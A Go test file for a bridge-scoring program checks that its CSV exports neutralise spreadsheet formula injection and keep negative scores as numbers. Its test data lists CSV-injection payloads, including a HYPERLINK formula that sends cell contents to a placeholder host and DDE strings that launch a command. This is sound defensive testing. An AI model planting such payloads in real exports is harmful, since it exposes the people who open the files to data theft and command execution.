package interchange

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"reflect"
	"regexp"
	"strings"
	"testing"

	"bridgescore/scoring"
)

// Hostile cells, as a name, a title or a pair's id may carry them from a
// names dialog, a membership list or an imported file: each is a formula
// that Excel, LibreOffice Calc or Google Sheets would run (OWASP's CSV
// injection: a cell beginning =, +, -, @, a tab or a carriage return).
var hostile = []string{
	`=HYPERLINK("http://example.invalid/?"&A1,"Results")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	`-5-5`,
}

// lone is a number a spreadsheet reads as a number and runs nothing: a
// score of -420, a handicap of -5, -3.5 IMPs.
var lone = regexp.MustCompile(`^[+-]?[0-9]+(\.[0-9]+)?$`)

// runs tells whether a spreadsheet opening the file would take the cell
// for a formula.
func runs(cell string) bool {
	t := strings.TrimLeft(cell, " ")
	return t != "" && strings.ContainsRune("=+-@\t\r", rune(t[0])) && !lone.MatchString(cell)
}

// The traveller CSV written for a session whose sections and pairs' ids
// are formulas (a results file of another program may carry any) has no
// cell a spreadsheet would run; a negative score stays a number.
func TestTravellerCSVRunsNoFormula(t *testing.T) {
	in := "board,ns,ew,contract,declarer,tricks,score\n"
	for i := range hostile {
		in += fmt.Sprintf("1,%d,%d,,,,-420\n2,%d,%d,4S,N,10,\n", 2*i+1, 2*i+2, 2*i+1, 2*i+2)
	}
	rf, err := ReadCSV(strings.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	ids := map[string]string{}
	for i := range rf.Session.Pairs {
		p := &rf.Session.Pairs[i]
		ids[p.ID] = hostile[i%len(hostile)] + p.ID
		p.ID = ids[p.ID]
	}
	for i := range rf.Session.Lines {
		l := &rf.Session.Lines[i]
		l.NS, l.EW = ids[l.NS], ids[l.EW]
	}
	rf.Sections = []*ResultsFile{{Section: hostile[0], Session: rf.Session}, {Section: hostile[1], Session: rf.Session}}
	var out bytes.Buffer
	if err := WriteCSV(&out, rf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	negative := 0
	for _, rec := range recs {
		for _, cell := range rec {
			if runs(cell) {
				t.Errorf("the traveller CSV has a cell a spreadsheet runs: %q", cell)
			}
			if cell == "-420" {
				negative++
			}
		}
	}
	if negative != 2*len(hostile) {
		t.Errorf("%d cells -420, want %d: a score must stay a number\n%s", negative, 2*len(hostile), out.String())
	}
}

// A traveller CSV whose pairs' ids the reader takes though a spreadsheet
// would run them is written safe and reads back to the same ids.
func TestTravellerCSVSafeReadsBack(t *testing.T) {
	in := "board,ns,ew,contract,declarer,tricks,score\n" +
		"1,+1,-5-5,,,,-420\n1,=3,@4,4S,N,10,\n"
	rf, err := ReadCSV(strings.NewReader(in))
	if err != nil {
		t.Skipf("the reader takes none of these ids: %v", err)
	}
	var out bytes.Buffer
	if err := WriteCSV(&out, rf); err != nil {
		t.Fatal(err)
	}
	back, err := ReadCSV(bytes.NewReader(out.Bytes()))
	if err != nil {
		t.Fatalf("%v\n%s", err, out.String())
	}
	if got, want := pairKeys(back.Session.Pairs), pairKeys(rf.Session.Pairs); !reflect.DeepEqual(got, want) {
		t.Errorf("pairs %v read back as %v\n%s", want, got, out.String())
	}
}

// BridgeWebs' CSV of a session whose title and players' names are
// formulas has no cell a spreadsheet would run, while its negative IMP
// figures stay numbers, as BridgeWebs reads them.
func TestBridgeWebsCSVRunsNoFormula(t *testing.T) {
	rf, st := scoredSession(t, "howell-4t", scoring.CrossIMPs)
	rf.Name = hostile[0]
	for i := range st.Pairs {
		st.Pairs[i].Names = []string{hostile[(2*i)%len(hostile)], hostile[(2*i+1)%len(hostile)]}
	}
	var b bytes.Buffer
	if err := WriteBridgeWebs(&b, rf, st); err != nil {
		t.Fatal(err)
	}
	negative := 0
	for _, line := range strings.Split(b.String(), "\n") {
		for _, cell := range strings.Split(line, bwSep) {
			if runs(cell) {
				t.Errorf("the BridgeWebs CSV has a cell a spreadsheet runs: %q", cell)
			}
			if lone.MatchString(cell) && cell[0] == '-' {
				negative++
			}
		}
	}
	if negative == 0 {
		t.Errorf("no negative figure in a cross-IMPs session's file: the IMPs must stay numbers\n%s", b.String())
	}
	if title := readBW(t, b.String()).option("Title"); !strings.HasSuffix(title, "HYPERLINK(\"http://example.invalid/?\"&A1,\"Results\")") {
		t.Errorf("the title %q is not kept as text", title)
	}
}

// SafeCell neutralises what a spreadsheet would run, keeps numbers as
// numbers, and TextCell gives back what was written.
func TestSafeCell(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"Ann Able", "Ann Able"},
		{"", ""},
		{"=1+1", "'=1+1"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-Smith", "'-Smith"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"  =1", "'  =1"},
		{"-420", "-420"}, // a score
		{"-5", "-5"},     // a handicap
		{"-3.5", "-3.5"}, // IMPs
		{"+2", "+2"},
		{"-", "'-"},
		{"-5-5", "'-5-5"},
		{"-1e3", "'-1e3"},
		{"-.5", "'-.5"},
		{"-5.", "'-5."},
		{"'=1", "''=1"}, // kept apart from what SafeCell writes for "=1"
		{"'Tis", "'Tis"},
		{"A60-40", "A60-40"},
		{"3NTS-1", "3NTS-1"},
	} {
		got := SafeCell(c.in)
		if got != c.want {
			t.Errorf("SafeCell(%q) = %q, want %q", c.in, got, c.want)
		}
		if back := TextCell(got); back != c.in {
			t.Errorf("TextCell(%q) = %q, want %q", got, back, c.in)
		}
	}
}

// No cell SafeCell writes runs, and TextCell always gives it back.
func FuzzSafeCell(f *testing.F) {
	for _, h := range append(hostile, "-420", "'=1", "''-5", " ", "") {
		f.Add(h)
	}
	f.Fuzz(func(t *testing.T, s string) {
		safe := SafeCell(s)
		if runs(safe) {
			t.Errorf("SafeCell(%q) = %q runs", s, safe)
		}
		if back := TextCell(safe); back != s {
			t.Errorf("TextCell(SafeCell(%q)) = %q", s, back)
		}
	})
}

func ExampleSafeCell() {
	for _, cell := range []string{"=HYPERLINK(\"http://example.invalid\")", "-420", "Ann Able"} {
		fmt.Println(SafeCell(cell))
	}
	// Output:
	// '=HYPERLINK("http://example.invalid")
	// -420
	// Ann Able
}
